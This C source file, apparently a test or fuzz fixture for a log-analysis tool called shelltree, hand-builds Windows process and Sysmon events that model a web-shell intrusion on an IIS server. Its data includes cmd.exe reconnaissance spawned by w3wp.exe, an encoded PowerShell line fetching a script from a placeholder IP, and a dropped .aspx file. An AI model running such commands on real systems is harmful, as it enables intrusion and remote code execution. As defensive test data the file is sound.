/* SPDX-FileCopyrightText: The shelltree authors */
/* SPDX-License-Identifier: Apache-2.0 */
/* world.c - processes and events by hand. */
#include "world.h"

#define T0 (ST_TICKS_UNIX + UINT64_C(1767323045) * ST_TICKS_SECOND) /* 2026-01-02 03:04:05 */

typedef struct process {
    unsigned id, parent; /* of the GUIDs; an id that isn't here is a placeholder */
    const char *image, *command;
} process;

static const process processes[] = {
    { 1, 9, "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "w3wp.exe -ap \"DefaultAppPool\"" },
    { 2, 1, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c \"whoami & ver\"" },
    { 3, 2, "C:\\Windows\\System32\\whoami.exe", "whoami /all" },
    { 4, 2, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell -enc SQBFAFgA http://198.51.100.7/a.ps1?x=1&y=%41" },
    { 5, 4, "C:\\Users\\Public\\sv\xc3\xa9.exe", "{\"a\":[1,2,{\"b\":null}],\"c\":0.5}" },
    { 6, 8, "C:\\Windows\\explorer.exe", "" },
    { 7, 6, "C:\\Windows\\System32\\CMD.EXE", "cmd a=1, b=2; c = \"x y\"" },
};

static st_guid guid_of(unsigned n)
{
    st_guid g = { { 0x5f } };
    g.b[15] = (unsigned char)n;
    return g;
}

static bool add_process(st_store *s, const process *p)
{
    size_t i = st_store_add(s);
    st_creations *c = &s->creations;
    if (i == SIZE_MAX || !st_grow(&s->seen, &s->seen_cap, s->nseen + 1, sizeof *s->seen))
        return false;
    c->computer[i] = st_pool_put(s->pool, p->id < 6 ? ST_STR("web01.corp.example") : ST_STR("WS2"));
    c->image[i] = st_pool_put(s->pool, st_str_of(p->image));
    c->command_line[i] = c->command_line_recorded[i] = st_pool_put(s->pool, st_str_of(p->command));
    c->user[i] = st_pool_put(s->pool, ST_STR("CORP\\ann"));
    c->hashes[i] = st_pool_put(s->pool, ST_STR("MD5=0123456789ABCDEF0123456789ABCDEF"));
    c->guid[i] = guid_of(p->id);
    c->parent_guid[i] = guid_of(p->parent);
    c->pid[i] = 1000 + p->id;
    c->parent_pid[i] = 1000 + p->parent;
    c->utc[i] = c->created[i] = T0 + p->id * 60 * ST_TICKS_SECOND;
    c->event_record_id[i] = c->record_number[i] = c->offset[i] = i + 1;
    s->seen[s->nseen++] = (st_seen){ .computer = c->computer[i],
                                     .event_id = 1,
                                     .event_record_id = i + 1,
                                     .created = c->created[i] };
    return true;
}

/* One event of a kind, told by its path or, of a log that is kept whole, its fields. */
static bool add_event(st_store *s, st_event_key key, st_event_text t, st_str value)
{
    size_t kind = st_event_kind_of(key), row = st_store_add_event(s, kind);
    st_events *e = &s->events[kind];
    if (row == SIZE_MAX)
        return false;
    e->computer[row] = st_pool_put(s->pool, ST_STR("web01.corp.example"));
    e->channel[row] = st_pool_put(s->pool, ST_STR("Security"));
    e->guid[row] = guid_of(2);
    e->utc[row] = e->created[row] = T0 + 150 * ST_TICKS_SECOND;
    e->event_record_id[row] = 100 + kind;
    e->text[st_event_column(st_event_kind_at(kind), t)][row] = st_pool_put(s->pool, value);
    return true;
}

static bool add_events(st_store *s)
{
    return add_event(s, ST_SYSMON_EVENT(11), ST_T_target_filename, ST_STR("C:\\inetpub\\a.aspx")) &&
           add_event(s, ST_SYSMON_EVENT(3), ST_T_destination_ip, ST_STR("203.0.113.9")) &&
           add_event(s, (st_event_key){ ST_LOGS, 0 }, ST_T_log_fields,
                     ST_STR("LogonType\0"
                            "3\0TargetUserName\0ann\0"));
}

st_store *st_fuzz_store(void)
{
    st_store *s = st_store_new();
    for (size_t i = 0; s && i < sizeof processes / sizeof processes[0]; i++) {
        if (!add_process(s, &processes[i])) {
            st_store_free(s);
            s = NULL;
        }
    }
    if (s && !add_events(s)) {
        st_store_free(s);
        s = NULL;
    }
    return s;
}
